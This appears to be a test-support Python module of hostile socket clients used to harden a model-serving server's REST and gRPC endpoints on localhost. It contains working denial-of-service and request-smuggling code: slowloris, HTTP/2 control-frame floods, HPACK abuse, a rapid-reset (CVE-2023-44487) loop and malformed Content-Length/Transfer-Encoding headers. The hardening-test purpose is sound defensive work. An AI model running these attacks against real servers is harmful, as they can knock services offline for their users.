"""Hostile clients, one per case of the hardening issue, each a bounded loop on raw sockets.

Run as a separate process (`python -m tests.serving.attacks NAME REST_PORT GRPC_PORT`), so that the
attacker's CPU and GIL are not the measuring test's: test_hostile_clients.py probes the server meanwhile.
Each attack prints one line of what the server did (JSON), for the test to check."""

from __future__ import annotations

import json
import resource
import select
import socket
import sys
import time
from collections.abc import Callable

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS = 0x1, 0x4
PREDICT = "/tensorflow.serving.PredictionService/Predict"
MB = 1 << 20


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((ftype, flags)) + stream_id.to_bytes(4, "big") + payload


def predict_message(shape: tuple[int, ...] = (1,), values: tuple[float, ...] = (1.0,)) -> bytes:
    """A PredictRequest for half_plus_two ("hp", input x), length-prefixed, encoded by hand: no TF import."""

    def field(number: int, payload: bytes) -> bytes:
        return _varint(number << 3 | 2) + _varint(len(payload)) + payload

    dims = b"".join(field(2, b"\x08" + _varint(d)) for d in shape)  # TensorShapeProto.dim { size }
    floats = b"".join(__import__("struct").pack("<f", v) for v in values)
    tensor = b"\x08\x01" + field(2, dims) + field(5, floats)  # dtype DT_FLOAT, tensor_shape, float_val
    entry = field(1, b"x") + field(2, tensor)
    body = field(1, field(1, b"hp")) + field(2, entry)  # model_spec { name }, inputs { key value }
    return b"\0" + len(body).to_bytes(4, "big") + body


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def post_head(length: int) -> bytes:
    return b"POST /v1/models/hp:predict HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % length


def request_headers(encoder: hpack.Encoder, port: int, extra: tuple[tuple[str, str], ...] = ()) -> bytes:
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", PREDICT),
            (":authority", f"127.0.0.1:{port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *extra,
        ]
    )


def connect(port: int, timeout: float = 10.0) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=timeout)


def send_quietly(sock: socket.socket, data: bytes) -> bool:
    """sendall, False once the server has closed the connection (what a limit does)."""
    try:
        sock.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError, TimeoutError, OSError):
        return False


def drain(sock: socket.socket, seconds: float = 10.0) -> bytes:
    """What the server sends until it closes (or `seconds` pass)."""
    out = bytearray()
    sock.settimeout(seconds)
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            chunk = sock.recv(65536)
            if not chunk:
                break
            out += chunk
    except (TimeoutError, ConnectionResetError, OSError):
        pass
    return bytes(out)


def goaway_code(data: bytes) -> int | None:
    pos = 0
    while pos + 9 <= len(data):
        length = int.from_bytes(data[pos : pos + 3], "big")
        if data[pos + 3] == GOAWAY and pos + 9 + length <= len(data):
            return int.from_bytes(data[pos + 13 : pos + 17], "big")
        pos += 9 + length
    return None


def statuses(data: bytes) -> list[int]:
    return [int(line.split()[1]) for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]


# ---------------------------------------------------------------------- REST
def chunk_minus_10(rest: int, grpc: int) -> dict[str, object]:
    """The request that used to spin the event loop forever: a chunk size of -10, 200 times."""
    seen = []
    for _ in range(200):
        with connect(rest) as s:
            send_quietly(
                s,
                b"POST /v1/models/hp:predict HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"-10\r\n" + b"A" * 64 + b"\r\n",
            )
            seen += statuses(drain(s, 5))
    return {"statuses": sorted(set(seen)), "answered": len(seen)}


SMUGGLING = [
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    b"Content-Length: -1\r\n\r\n",
    b"Content-Length: +30\r\n\r\n",
    b"Content-Length: 3_0\r\n\r\n",
    b"Transfer-Encoding: xchunkedx\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n0x1e\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n1_e\r\n",
    b"X-Folded: a\r\n b\r\nContent-Length: 0\r\n\r\n",
    b"Content-Length : 0\r\n\r\n",
]


def smuggling(rest: int, grpc: int) -> dict[str, object]:
    """Requests a lenient parser reads two ways, 30 rounds of each, plus HTTP/1.9 and bare-LF heads."""
    seen: list[int] = []
    heads = [b"POST /v1/models/hp:predict HTTP/1.1\r\nHost: x\r\n" + tail for tail in SMUGGLING]
    heads += [b"GET /v1/models/hp HTTP/1.9\r\nHost: x\r\n\r\n", b"GET /v1/models/hp HTTP/1.1\nHost: x\n\n"]
    for _ in range(30):
        for head in heads:
            with connect(rest) as s:
                send_quietly(s, head + b"GET /v1/models/hp HTTP/1.1\r\nHost: x\r\n\r\n")
                seen.append(statuses(drain(s, 5)))  # one 400, the smuggled GET never answered
    return {"answers": sorted({tuple(a) for a in seen}), "requests": len(seen)}


def slowloris(rest: int, grpc: int, count: int = 500, hold: float = 4.0) -> dict[str, object]:
    """`count` connections sending their headers a byte at a time; how many the server closed, when (from
    the last one opened), and the longest any stayed open (from its own first bytes: what the header
    timeout bounds). Closes are looked for every 0.2 s."""
    socks, opened_at = [], []
    for _ in range(count):
        s = connect(rest)
        s.sendall(b"POST /v1/models/hp:predict HTTP/1.1\r\nHost: x\r\n")
        opened_at.append(time.monotonic())
        s.setblocking(False)
        socks.append(s)
    closed: dict[int, float] = {}  # connection -> when it was seen closed
    start = time.monotonic()
    while time.monotonic() - start < hold and len(closed) < len(socks):
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                s.send(b"X")
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                closed[i] = time.monotonic()
                continue
            try:
                if s.recv(4096) == b"":
                    closed[i] = time.monotonic()
            except BlockingIOError:
                pass
            except OSError:
                closed[i] = time.monotonic()
        time.sleep(0.2)
    for s in socks:
        s.close()
    return {
        "opened": count,
        "closed": len(closed),
        "last_closed_s": max(closed.values(), default=start) - start,
        "longest_open_s": max((t - opened_at[i] for i, t in closed.items()), default=None),
    }


def big_bodies(rest: int, grpc: int, count: int = 20, size: int = 30 * MB) -> dict[str, object]:
    """`count` connections each announcing `size` bytes and sending all but the last one, then holding."""
    socks, refused = [], 0
    chunk = b"A" * MB
    for _ in range(count):
        s = connect(rest, timeout=10)
        ok = send_quietly(s, post_head(size))
        sent = 0
        while ok and sent < size - 1:
            n = min(len(chunk), size - 1 - sent)
            ok = send_quietly(s, chunk[:n])
            sent += n
        if not ok:
            refused += 1
        socks.append(s)
    time.sleep(2.0)
    answers = [statuses(drain(s, 0.2)) for s in socks]
    for s in socks:
        s.close()
    return {"connections": count, "cut_off": refused, "statuses": sorted({c for a in answers for c in a})}


def pipeline_no_read(rest: int, grpc: int, requests: int = 2_000_000) -> dict[str, object]:
    """Pipelines GETs and never reads an answer; how many requests the server let it send."""
    s = connect(rest)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.setblocking(False)
    req = b"GET /v1/models/hp HTTP/1.1\r\nHost: x\r\n\r\n"
    batch = req * 1000
    sent = 0
    deadline = time.monotonic() + 6
    while sent < requests and time.monotonic() < deadline:
        try:
            n = s.send(batch)
            sent += n // len(req)
        except BlockingIOError:
            select.select([], [s], [], 0.2)
        except OSError:
            break
    s.close()
    return {"requests_sent": sent}


def deep_json(rest: int, grpc: int) -> dict[str, object]:
    """JSON nested 100,000 deep, 20 times: each must be a 400, not a 500."""
    body = b'{"instances": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    seen = []
    for _ in range(20):
        with connect(rest) as s:
            send_quietly(
                s,
                b"POST /v1/models/hp:predict HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                b"Content-Length: %d\r\n\r\n" % len(body) + body,
            )
            seen += statuses(drain(s, 5)[:4096])  # closed after the answer: no 5 s wait per body
    return {"statuses": sorted(set(seen))}


# ---------------------------------------------------------------------- HTTP/2 + gRPC
def window_update_flood(rest: int, grpc: int) -> dict[str, object]:
    """1,000 answers blocked on a zero stream window, then 100,000 WINDOW_UPDATE(+1) frames."""
    enc = hpack.Encoder()
    zero_window = frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
    calls = b"".join(
        frame(HEADERS, END_HEADERS, 2 * i + 1, request_headers(enc, grpc))
        + frame(DATA, END_STREAM, 2 * i + 1, predict_message())
        for i in range(1000)
    )
    with connect(grpc, timeout=20) as s:
        send_quietly(s, PREFACE + zero_window + calls)
        time.sleep(1.0)
        send_quietly(s, frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 100_000)
        return {"goaway": goaway_code(drain(s, 10))}


def settings_flood(rest: int, grpc: int) -> dict[str, object]:
    """1,000 open streams, then 1 MB SETTINGS frames full of INITIAL_WINDOW_SIZE entries, 8 of them."""
    enc = hpack.Encoder()
    opened = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, request_headers(enc, grpc)) for i in range(1000))
    entry = (4).to_bytes(2, "big") + (65535).to_bytes(4, "big")
    big = frame(SETTINGS, 0, 0, entry * (MB // 6 - 1))
    with connect(grpc, timeout=20) as s:
        send_quietly(s, PREFACE + frame(SETTINGS, 0, 0) + opened)
        for _ in range(8):
            if not send_quietly(s, big):
                break
        return {"goaway": goaway_code(drain(s, 10))}


def hpack_updates(rest: int, grpc: int) -> dict[str, object]:
    """HEADERS frames of ~1 MB of HPACK dynamic-table size updates, 8 of them."""
    codes = []
    for _ in range(8):
        with connect(grpc, timeout=20) as s:
            block = b"\x20" * (MB - 100) + request_headers(hpack.Encoder(), grpc)
            send_quietly(s, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block))
            codes.append(goaway_code(drain(s, 10)))
    return {"goaways": sorted({c for c in codes if c is not None}), "closed": len(codes)}


def rapid_reset(rest: int, grpc: int, streams: int = 100_000) -> dict[str, object]:
    """CVE-2023-44487 with real requests: HEADERS + DATA + RST_STREAM, `streams` times on one connection."""
    enc = hpack.Encoder()
    msg = predict_message()
    with connect(grpc, timeout=20) as s:
        if not send_quietly(s, PREFACE + frame(SETTINGS, 0, 0)):
            return {"goaway": None, "sent": 0}
        sent = 0
        for start in range(0, streams, 1000):
            burst = b"".join(
                frame(HEADERS, END_HEADERS, 2 * i + 1, request_headers(enc, grpc))
                + frame(DATA, END_STREAM, 2 * i + 1, msg)
                + frame(RST_STREAM, 0, 2 * i + 1, (8).to_bytes(4, "big"))  # CANCEL
                for i in range(start, start + 1000)
            )
            if not send_quietly(s, burst):
                break
            sent += 1000
        return {"goaway": goaway_code(drain(s, 10)), "sent": sent}


def control_floods(rest: int, grpc: int) -> dict[str, object]:
    """Floods of PING, SETTINGS, PRIORITY, RST_STREAM on idle streams, and empty DATA frames."""
    enc = hpack.Encoder()
    open_stream = frame(HEADERS, END_HEADERS, 1, request_headers(enc, grpc))
    floods = {
        "ping": frame(PING, 0, 0, b"12345678") * 200_000,
        "settings": frame(SETTINGS, 0, 0) * 200_000,
        "priority": b"".join(frame(PRIORITY, 0, 2 * i + 3, b"\0\0\0\1\x10") for i in range(100_000)),
        "empty_data": open_stream + frame(DATA, 0, 1) * 200_000,
    }
    codes = {}
    for name, payload in floods.items():
        with connect(grpc, timeout=20) as s:
            send_quietly(s, PREFACE + frame(SETTINGS, 0, 0) + payload)
            codes[name] = goaway_code(drain(s, 10))
    return {"goaways": codes}


def huge_data(rest: int, grpc: int) -> dict[str, object]:
    """A 10-byte gRPC message announced, then 300 MB of DATA on its stream."""
    enc = hpack.Encoder()
    with connect(grpc, timeout=20) as s:
        send_quietly(
            s, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, request_headers(enc, grpc))
        )
        send_quietly(s, frame(DATA, 0, 1, b"\0" + (10).to_bytes(4, "big")))
        chunk = frame(DATA, 0, 1, b"A" * 16000) * 64
        sent = 0
        while sent < 300 * MB and send_quietly(s, chunk):
            sent += 64 * 16000
        return {"sent_mb": sent // MB}


def huge_shape(rest: int, grpc: int) -> dict[str, object]:
    """A 29-byte Predict whose tensor_shape says 50,000,000 floats and gives one, 20 times."""
    enc = hpack.Encoder()
    msg = predict_message(shape=(50_000_000,), values=(1.0,))
    with connect(grpc, timeout=20) as s:
        calls = b"".join(
            frame(HEADERS, END_HEADERS, 2 * i + 1, request_headers(enc, grpc))
            + frame(DATA, END_STREAM, 2 * i + 1, msg)
            for i in range(20)
        )
        send_quietly(s, PREFACE + frame(SETTINGS, 0, 0) + calls)
        data = drain(s, 3)
        return {"invalid_argument": data.count(b"grpc-status") + data.count(b"\x83")}


def pings_no_read(rest: int, grpc: int) -> dict[str, object]:
    """Up to 3,000,000 PINGs on a connection that never reads a byte."""
    s = connect(grpc)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.setblocking(False)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    batch = frame(PING, 0, 0, b"abcdefgh") * 10_000
    sent = 0
    deadline = time.monotonic() + 6
    while sent < 3_000_000 and time.monotonic() < deadline:
        try:
            sent += s.send(batch) // 17
        except BlockingIOError:
            select.select([], [s], [], 0.2)
        except OSError:
            break
    s.close()
    return {"pings_sent": sent}


def bad_timeouts(rest: int, grpc: int) -> dict[str, object]:
    """A garbage grpc-timeout and one of 400 digits, on a connection with a good call after them."""
    enc = hpack.Encoder()
    msg = predict_message()
    frames = PREFACE + frame(SETTINGS, 0, 0)
    for sid, timeout in ((1, "garbage"), (3, "9" * 400 + "S"), (5, "")):
        extra = (("grpc-timeout", timeout),) if timeout else ()
        frames += frame(HEADERS, END_HEADERS, sid, request_headers(enc, grpc, extra))
        frames += frame(DATA, END_STREAM, sid, msg)
    with connect(grpc) as s:
        send_quietly(s, frames)
        data = drain(s, 2)
    return {"goaway": goaway_code(data), "bytes": len(data)}


def many_connections(rest: int, grpc: int, count: int = 1100) -> dict[str, object]:
    """`count` REST connections held open at once (run with the server at ulimit -n 1024)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 100)), hard))
    socks = []
    for _ in range(count):
        try:
            s = connect(rest, timeout=2)
            s.sendall(b"GET /v1/models/hp HTTP/1.1\r\nHost: x\r\n")  # a head never finished
            socks.append(s)
        except OSError:
            break
    time.sleep(1.0)
    alive = sum(1 for s in socks if _alive(s))
    for s in socks:
        s.close()
    return {"opened": len(socks), "still_open": alive}


def _alive(s: socket.socket) -> bool:
    s.setblocking(False)
    try:
        return s.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


ATTACKS: dict[str, Callable[[int, int], dict[str, object]]] = {
    f.__name__: f
    for f in (
        chunk_minus_10, smuggling, slowloris, big_bodies, pipeline_no_read, deep_json, window_update_flood,
        settings_flood, hpack_updates, rapid_reset, control_floods, huge_data, huge_shape, pings_no_read,
        bad_timeouts, many_connections,
    )
}  # fmt: skip


if __name__ == "__main__":
    name, rest_port, grpc_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    print(json.dumps(ATTACKS[name](rest_port, grpc_port)))
